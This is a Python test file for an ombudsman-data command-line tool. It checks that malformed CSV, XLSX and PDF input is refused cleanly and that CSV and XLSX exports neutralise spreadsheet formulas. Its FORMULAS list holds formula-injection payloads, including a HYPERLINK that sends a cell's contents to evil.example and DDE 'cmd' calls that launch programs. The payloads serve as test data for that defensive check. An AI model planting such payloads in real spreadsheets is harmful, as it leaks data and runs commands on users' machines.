"""Bad input, generated: the importer and the parser on malformed files (wrong encodings, BOM, CRLF, huge fields,
one bad row among 100,000, wrong types, damaged bytes, formula injection) never fail with a traceback, never import
part of a refused file, and always name the file and line; the CSV and XLSX exports neutralise formulas."""

from __future__ import annotations

import csv
import io
import re
import uuid
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from builders import WORDS
from conftest import LGSCO, registry, snapshot
from ombuds.cli import cli
from ombuds.ingest.fields import RowCheck
from ombuds.ingest.kinds import kinds_of
from ombuds.store import open_database

HEADER = ["reference", "authority", "decision_date", "outcome", "public_report", "summary"]
GOOD = [["G1", "Stevenage", "2023-09-01", "Upheld", "yes", "Café: the council agreed to pay £150."],
        ["G2", "Kent County Council", "2023-10-02", "Not Upheld", "no", ""]]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C notepad'!'A1'", "\t=1+1", "\r=1+1"]
SETTINGS = settings(max_examples=25, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


def text(rows: list[list[str]], header: list[str] = HEADER, newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


@pytest.fixture(scope="module")
def seeded(tmp_path_factory) -> str:
    """A database holding two decisions, imported before every refused file."""
    folder = tmp_path_factory.mktemp("bad-input")
    path = folder / "seed.csv"
    path.write_text(text([["S1", "Dacorum", "2023-05-01", "Upheld", "no", "seeded"]]), encoding="utf-8")
    url = f"sqlite:///{folder / 'bad.db'}"
    result = CliRunner().invoke(cli, ["--db", url, "import", str(path)])
    assert result.exit_code == 0, result.output
    return url


def import_file(url: str, path: Path, *options: str):
    """`ombuds import` in-process; returns (exit code, stdout, stderr). A crash is a failure of the test."""
    result = CliRunner().invoke(cli, ["--db", url, "import", *options, str(path)])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    return result.exit_code, result.stdout, result.stderr


def assert_refused_cleanly(url: str, path: Path, before, *options: str, line: int | None = None) -> list[str]:
    """Refused: exit 1, every problem as FILE:LINE: …, the last line saying nothing was imported, nothing stored."""
    code, _, stderr = import_file(url, path, *options)
    assert code == 1, stderr
    lines = stderr.strip().splitlines()
    assert lines[-1].endswith("nothing was imported"), stderr
    problems = [p for p in lines[:-1] if not p.startswith("… and ")]
    assert problems and all(re.match(rf"{re.escape(str(path))}:\d+: ", p) for p in problems), stderr
    if line is not None:
        assert problems[0].startswith(f"{path}:{line}: "), stderr
    database = open_database(url)
    try:
        assert snapshot(database) == before
    finally:
        database.close()
    return problems


@pytest.fixture(scope="module")
def before(seeded):
    database = open_database(seeded)
    try:
        return snapshot(database)
    finally:
        database.close()


def check_only(url: str, path: Path, *options: str) -> tuple[int, str]:
    code, _, stderr = import_file(url, path, "--check", *options)
    return code, stderr


@SETTINGS
@given(encoding=st.sampled_from(["cp1252", "latin-1", "utf-16-le", "utf-16-be", "mac-roman", "cp437"]),
       bad_row=st.integers(0, 40))
def test_wrong_encodings_are_refused_with_the_line_or_read_correctly(tmp_path, seeded, before, encoding, bad_row):
    rows = [[f"E{i}", "Stevenage", "2023-09-01", "Upheld", "no", "plain"] for i in range(40)]
    rows.insert(bad_row, [f"X{bad_row}", "Stevenage", "2023-09-01", "Upheld", "no", "Café £150 naïve"])
    path = tmp_path / "wrong.csv"
    path.write_bytes(text(rows).encode(encoding))
    if encoding.startswith("utf-16"):  # no byte-order mark: nothing says it is UTF-16; its NULs are valid UTF-8
        assert_refused_cleanly(seeded, path, before)
    elif encoding in ("cp1252", "latin-1", "mac-roman", "cp437"):
        assert_refused_cleanly(seeded, path, before, line=bad_row + 2)
    code, stderr = check_only(seeded, path, "--encoding", encoding)
    assert code == 0, stderr  # told the encoding, the same file is read


@SETTINGS
@given(bom=st.booleans(), newline=st.sampled_from(["\n", "\r\n", "\r"]), delimiter=st.sampled_from([",", ";", "\t"]))
def test_bom_crlf_and_delimiters_read_the_same_rows(tmp_path, seeded, bom, newline, delimiter):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerow(HEADER)
    writer.writerows(GOOD)
    path = tmp_path / "variant.csv"
    path.write_bytes(("\ufeff" if bom else "").encode() + out.getvalue().encode("utf-8"))
    code, stdout, stderr = import_file(seeded, path, "--check")
    assert code == 0, stderr
    assert stdout.splitlines()[0] == f"{path}: 2 decided rows"


@SETTINGS
@given(size=st.sampled_from([200_000, 1_000_000, 5_000_000]), column=st.sampled_from(["reference", "summary"]),
       where=st.integers(0, 2))
def test_huge_fields_are_refused_with_the_file_and_line(tmp_path, seeded, before, size, column, where):
    rows = [list(r) for r in GOOD]
    rows.insert(where, ["H1", "Stevenage", "2023-09-01", "Upheld", "no", "x"])
    rows[where][HEADER.index(column)] = "y" * size
    path = tmp_path / "huge.csv"
    path.write_text(text(rows), encoding="utf-8")
    assert_refused_cleanly(seeded, path, before, line=where + 2)


@settings(max_examples=2, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(bad_row=st.integers(0, 99_999), fault=st.sampled_from(["date", "outcome", "authority", "fields"]))
def test_one_bad_row_among_100000_is_named_and_nothing_is_imported(tmp_path, seeded, before, bad_row, fault):
    path = tmp_path / "big.csv"
    with open(path, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, lineterminator="\n")
        writer.writerow(["reference", "authority", "received_date", "service_area"])
        for i in range(100_000):
            row = [f"B{i:06d}", "Stevenage", "2023-06-01", "Housing"]
            if i == bad_row:
                row = {"date": [*row[:2], "2023-02-30", row[3]], "outcome": [*row[:3], "Housing?"],
                       "authority": [row[0], "Nowhere Borough Council", *row[2:]], "fields": [*row, "extra"]}[fault]
            writer.writerow(row)
    problems = assert_refused_cleanly(seeded, path, before, line=bad_row + 2)
    assert len(problems) == 1


VALUE = st.one_of(st.text(max_size=30), st.integers().map(str), st.floats().map(str), st.just(""),
                  st.sampled_from(["TRUE", "null", "NaN", "31/02/2024", "2023-13-01", "1e309", "-0", "０１"]))


@SETTINGS
@given(column=st.sampled_from(["decision_date", "outcome", "public_report", "authority"]), value=VALUE,
       row=st.integers(0, 1))
def test_wrong_types_never_crash_and_are_named_by_line_and_column(tmp_path, seeded, before, column, value, row):
    rows = [list(r) for r in GOOD]
    rows[row][HEADER.index(column)] = value
    path = tmp_path / "types.csv"
    path.write_text(text(rows), encoding="utf-8")
    check = RowCheck(registry(), LGSCO.label_sets)
    accepted = kinds_of(LGSCO).kinds["decided"].check(dict(zip(HEADER, rows[row], strict=True)), check) is not None
    code, _, stderr = import_file(seeded, path, "--check")
    assert code == (0 if accepted else 1), stderr  # the command agrees with the row's own check
    if not accepted:
        problems = assert_refused_cleanly(seeded, path, before)
        assert any(p.startswith(f"{path}:{row + 2}: {column}: ") for p in problems), stderr
    assert_unchanged(seeded, before)


@SETTINGS
@given(data=st.data())
def test_damaged_bytes_never_crash_and_never_import_half(tmp_path, seeded, before, data):
    body = bytearray(text([[f"D{i}", "Stevenage", "2023-09-01", "Upheld", "no", "s"] for i in range(30)])
                     .encode("utf-8"))
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(body)))
        body[at:at + data.draw(st.integers(0, 20))] = data.draw(st.binary(max_size=12))
    path = tmp_path / data.draw(st.sampled_from(["damaged.csv", "damaged.xlsx"]))
    path.write_bytes(bytes(body))
    code, stdout, stderr = import_file(seeded, path, "--check")
    assert code in (0, 1), stderr
    if code == 1:
        assert_refused_cleanly(seeded, path, before)
    else:  # damage that left a readable file: checked, said so, nothing written
        assert stdout.strip() and not stderr.strip().endswith("nothing was imported"), (stdout, stderr)
    assert_unchanged(seeded, before)


def assert_unchanged(url: str, before) -> None:
    database = open_database(url)
    try:
        assert snapshot(database) == before
    finally:
        database.close()


@SETTINGS
@given(formula=st.sampled_from(FORMULAS[:5]), column=st.sampled_from(["summary", "improvement"]))
def test_formulas_in_text_fields_are_stored_as_text(tmp_path, formula, column):
    tmp_path = tmp_path / uuid.uuid4().hex
    tmp_path.mkdir()
    url = f"sqlite:///{tmp_path / 'formula.db'}"
    if column == "summary":
        path = tmp_path / "decided.csv"
        path.write_text(text([["F1", "Stevenage", "2023-09-01", "Upheld", "yes", formula]]), encoding="utf-8")
    else:
        path = tmp_path / "improvements.csv"
        path.write_text(text([["F1", "Stevenage", "2023-09-01", formula]],
                             ["reference", "authority", "agreed_date", "improvement"]), encoding="utf-8")
    code, _, stderr = import_file(url, path)
    assert code == 0, stderr
    database = open_database(url)
    try:
        with database.read() as connection:
            stored = connection.exec_driver_sql(f"SELECT {column} FROM "
                                                f"{'decided' if column == 'summary' else 'improvements'}").scalar()
    finally:
        database.close()
    assert stored == formula.strip()


def test_statistics_exports_neutralise_formulas(tmp_path):
    """Every text cell of the site's CSV and XLSX downloads and of `ombuds stats --format csv` that a spreadsheet
    would run is prefixed with a quote; numbers stay numbers."""
    from openpyxl import load_workbook

    from ombuds.stats import downloads

    url = f"sqlite:///{tmp_path / 'exports.db'}"
    path = tmp_path / "decided.csv"
    path.write_text(text(GOOD), encoding="utf-8")
    assert import_file(url, path)[0] == 0
    from ombuds.stats.service import statistics_service
    from ombuds.years import Year

    database = open_database(url)
    records = statistics_service(database, LGSCO).year(Year.parse("2023-24"), "pooled").records
    database.close()
    hostile = [r.model_copy(update={"authority": r.authority.model_copy(update={"name": f}) })
               for r, f in zip(records, FORMULAS, strict=False)]
    rows = list(csv.DictReader(io.StringIO(downloads.to_csv(hostile, WORDS).decode("utf-8"), newline="")))
    assert [row["authority.name"] for row in rows] == ["'" + f for f in FORMULAS]
    assert rows[0]["decided.total"].lstrip("-").isdigit()
    sheet = load_workbook(io.BytesIO(downloads.to_xlsx(hostile, WORDS))).active
    header = [c.value for c in sheet[1]]
    names = [row[header.index("authority.name")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == ["'" + f.replace("\r", "\n") for f in FORMULAS]  # XML reads a carriage return as a newline
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert downloads.neutralise(-3) == -3 and downloads.neutralise("-3") == "'-3"


def test_stats_csv_neutralises_formulas(tmp_path, monkeypatch):
    """`ombuds stats --format csv` writes its cells through the same neutralising as the downloads: a text cell
    that a spreadsheet would run gets a leading quote (the flattened record is given a hostile name here, since
    names come from the registry, not from input files)."""
    from ombuds.stats import export
    from ombuds.stats.export import flatten

    url = f"sqlite:///{tmp_path / 'stats.db'}"
    path = tmp_path / "decided.csv"
    path.write_text(text(GOOD), encoding="utf-8")
    assert import_file(url, path)[0] == 0
    monkeypatch.setattr(export, "flatten", lambda *a, **k: {**flatten(*a, **k), "authority.name": FORMULAS[1]})
    result = CliRunner().invoke(cli, ["--db", url, "stats", "--year", "2023-24", "--authority", "Stevenage",
                                      "--format", "csv"])
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    assert row["authority.name"] == "'" + FORMULAS[1]
    assert row["authority.code"] == "E07000243" and row["decided.Upheld"] == "1"


GARBAGE = st.one_of(st.binary(max_size=400), st.text(max_size=400).map(lambda t: t.encode("utf-8")),
                    st.sampled_from([b"%PDF-1.7\n%broken", b"<html><body><table><tr><td>Upheld", b"\xff\xfe\x00",
                                     b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>"]))


@SETTINGS
@given(body=GARBAGE, suffix=st.sampled_from([".pdf", ".html", ".txt", ".htm"]))
def test_the_parser_refuses_garbage_with_the_file_name(tmp_path, body, suffix):
    path = tmp_path / f"garbage{suffix}"
    path.write_bytes(body)
    result = CliRunner().invoke(cli, ["parse", str(path)])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    assert result.exit_code == 1, result.stdout  # garbage is never read as figures
    assert all(line.startswith(str(path)) for line in result.stderr.strip().splitlines()), result.stderr
